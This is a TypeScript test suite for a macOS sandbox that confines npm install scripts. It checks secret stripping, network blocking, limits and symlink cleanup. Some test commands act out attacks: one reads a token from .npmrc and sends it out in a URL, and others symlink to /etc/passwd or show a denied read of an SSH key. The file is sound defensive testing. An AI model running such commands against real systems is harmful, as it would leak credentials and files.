import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { SandboxEvent } from '../../../src/model.js';
import { defaultGrant } from '../../../src/sandbox/limits.js';
import type { Grant, SandboxOptions } from '../../../src/sandbox/sandbox.js';
import { createSeatbeltSandbox } from '../../../src/sandbox/seatbelt/index.js';
import { evaluateSbpl } from '../../../src/sandbox/seatbelt/sbpl-evaluate.js';

// Away from a Mac, a program takes the place of sandbox-exec that keeps the profile and starts the command as it is: what is
// tested here is everything around the kernel's part. The profile's meaning is tested in profile.test.ts.
const STAND_IN = '#!/bin/sh\n[ "$1" = -f ] || exit 99\ncp "$2" "$SEEN/profile.sb"\nshift 2\nexec "$@"\n';

let root: string;
let project: string;
let cwd: string;
let events: SandboxEvent[];
let programs: { sandboxExec: string; log: string };

beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'seat-')));
  project = join(root, 'project');
  cwd = join(project, 'node_modules', 'pkg');
  mkdirSync(cwd, { recursive: true });
  events = [];
  const program = (name: string, text: string) => {
    writeFileSync(join(root, name), text, { mode: 0o755 });
    return join(root, name);
  };
  programs = {
    sandboxExec: program('sandbox-exec', STAND_IN.replaceAll('$SEEN', root)),
    log: program('log', '#!/bin/sh\nexec sleep 60\n'),
  };
});

afterEach(() => rmSync(root, { recursive: true, force: true }));

async function running(
  command: string,
  more: {
    options?: Partial<SandboxOptions>;
    grant?: Partial<Grant>;
    env?: Record<string, string>;
    signal?: AbortSignal;
  } = {},
) {
  const sandbox = await createSeatbeltSandbox(
    {
      projectRoot: project,
      readable: [join(project, 'node_modules')],
      registries: [],
      upstream: {},
      stateDir: join(root, 'state'),
      require: 'full',
      onEvent: (event) => events.push(event),
      ...more.options,
    },
    programs,
  );
  try {
    return await sandbox.run(
      {
        package: 'pkg@1.0.0',
        location: 'node_modules/pkg',
        event: 'postinstall',
        command,
        cwd,
        env: { PATH: process.env['PATH']!, npm_lifecycle_event: 'postinstall', ...more.env },
        stdio: 'pipe',
        ...(more.signal === undefined ? {} : { signal: more.signal }),
      },
      { ...defaultGrant(), ...more.grant },
    );
  } finally {
    await sandbox.close();
  }
}

test('a script runs in its folder with its output, exit code and the level named', async () => {
  expect(await running('pwd; echo err >&2; exit 7')).toMatchObject({
    exitCode: 7,
    signal: null,
    sandbox: 'seatbelt',
    output: expect.stringContaining(`${cwd}\n`),
    limit: null,
  });
});

test('the profile is that of the grant, with a port of its own', async () => {
  const run = await running('echo "$HTTPS_PROXY"', { grant: { writable: [project] } });
  const profile = evaluateSbpl(readFileSync(join(root, 'profile.sb'), 'utf8'));
  const port = new URL(run.output.trim()).port;
  expect(profile.allows({ operation: 'network-outbound', remote: `localhost:${port}` })).toBe(true);
  expect(profile.allows({ operation: 'network-outbound', remote: 'localhost:1' })).toBe(false);
  expect(profile.allows({ operation: 'file-write-create', path: `${project}/x` })).toBe(true);
  expect(profile.allows({ operation: 'file-write-create', path: `${project}/.git/hooks/x` })).toBe(false);
  expect(profile.allows({ operation: 'file-write-create', path: `${root}/x` })).toBe(false);
});

test('secrets of the environment do not pass, home is a private one with decoys, set variables do pass', async () => {
  const { output } = await running('env; ls -A "$HOME"; touch "$TMPDIR/t" && echo wrote', {
    env: { NPM_TOKEN: 'npm_0123456789', AWS_SECRET_ACCESS_KEY: 'x', LD_PRELOAD: '/x', TOOL_CACHE: 'a' },
    grant: { setEnv: { TOOL_CACHE: '/given' } },
  });
  expect(output).not.toMatch(/NPM_TOKEN|AWS_SECRET|LD_PRELOAD/);
  expect(output).toContain('TOOL_CACHE=/given');
  expect(output).toContain('.npmrc');
  expect(output).toContain('wrote');
  expect(/^HOME=(.*)$/m.exec(output)![1]).not.toBe(process.env['HOME']);
  expect(existsSync(/^HOME=(.*)$/m.exec(output)![1]!)).toBe(false);
});

test('the registry is reached through the port, other hosts are not, and both are events', async () => {
  const registry = createServer((_request, response) => response.end('{"name":"x"}'));
  registry.listen(0, '127.0.0.1');
  await new Promise((listening) => registry.once('listening', listening));
  const url = `http://127.0.0.1:${(registry.address() as AddressInfo).port}`;
  const { output } = await running(
    `curl -sS --noproxy '' ${url}/name; curl -sS http://other.example/ || echo " code $?"; curl -sS -x "$ALL_PROXY" https://other.example/ || echo " code $?"`,
    { options: { registries: [{ url }] } },
  );
  registry.closeAllConnections();
  registry.close();
  expect(output).toContain('{"name":"x"}');
  expect(output.match(/ code (52|56|97)/g)).toHaveLength(2);
  expect(events).toMatchObject([
    { class: 'registry', action: 'allowed', package: 'pkg@1.0.0', script: 'postinstall' },
    { class: 'network', action: 'denied', target: 'other.example:80' },
    { class: 'network', action: 'denied', target: 'other.example:443' },
  ]);
});

test('a planted credential on its way out ends the script', async () => {
  const registry = createServer((_request, response) => response.end('{}'));
  registry.listen(0, '127.0.0.1');
  await new Promise((listening) => registry.once('listening', listening));
  const url = `http://127.0.0.1:${(registry.address() as AddressInfo).port}`;
  const run = await running(
    `t=$(sed 's/.*=//' "$HOME/.npmrc"); curl -sS --noproxy '' "${url}/x-$t"; sleep 20; echo still here`,
    { options: { registries: [{ url }] } },
  );
  registry.closeAllConnections();
  registry.close();
  expect(run).toMatchObject({
    exitCode: null,
    signal: 'SIGKILL',
    violation: expect.stringContaining('planted credential'),
  });
  expect(run.output).not.toContain('still here');
  expect(events.map((event) => event.action)).toEqual(['denied', 'killed']);
});

describe('limits and ends', () => {
  test('wall time ends the whole group', async () => {
    const started = Date.now();
    const run = await running('sleep 30 & sleep 30', { grant: { limits: { ...defaultGrant().limits, wallMs: 300 } } });
    expect(run).toMatchObject({ exitCode: null, signal: 'SIGKILL', limit: 'wall time: 300 ms' });
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(events).toMatchObject([{ class: 'limit', action: 'killed' }]);
  });

  test('the size of a file is bounded', async () => {
    const limits = { ...defaultGrant().limits, fileBytes: 1024 * 1024 };
    const run = await running('exec dd if=/dev/zero of=big bs=65536 count=64', { grant: { limits } });
    expect(run.exitCode).not.toBe(0);
    expect(readFileSync(join(cwd, 'big')).length).toBeLessThanOrEqual(1024 * 1024);
  });

  test('a signal from outside reaches the script, and a left-over process does not hold the run', async () => {
    const controller = new AbortController();
    const watch = setInterval(() => {
      if (existsSync(join(cwd, 'ready'))) controller.abort('SIGINT');
    }, 20);
    const run = await running('trap "echo caught; exit 3" INT; touch ready; while :; do sleep 0.1; done', {
      signal: controller.signal,
    });
    clearInterval(watch);
    expect(run).toMatchObject({ exitCode: null, signal: 'SIGINT', output: expect.stringContaining('caught') });
    expect(await running('sleep 60 & echo done')).toMatchObject({ exitCode: 0, output: 'done\n' });
  });
});

test('denials of the log become events of the script', async () => {
  const message = 'Sandbox: cat(1) deny(1) file-read-data /Users/u/.ssh/id_rsa';
  // The predicate's last word is the tag that the profile carries.
  writeFileSync(
    programs.log,
    `#!/bin/sh\nfor p; do :; done\ntag=$(printf %s "$p" | sed 's/.*ENDSWITH "//; s/"$//')\nprintf '{"eventMessage":"${message}\\\\n%s"}\\n' "$tag"\nexec sleep 60\n`,
    { mode: 0o755 },
  );
  await running('sleep 0.5');
  expect(events).toMatchObject([
    {
      class: 'file',
      action: 'denied',
      target: '/Users/u/.ssh/id_rsa',
      evidence: 'cat: file-read-data',
      package: 'pkg@1.0.0',
    },
  ]);
});

test('a link that leaves the package is taken back', async () => {
  await running('ln -s /etc/passwd out; echo ok > kept');
  expect(existsSync(join(cwd, 'kept'))).toBe(true);
  expect(existsSync(join(cwd, 'out'))).toBe(false);
  expect(events).toMatchObject([{ class: 'file', action: 'undone' }]);
});
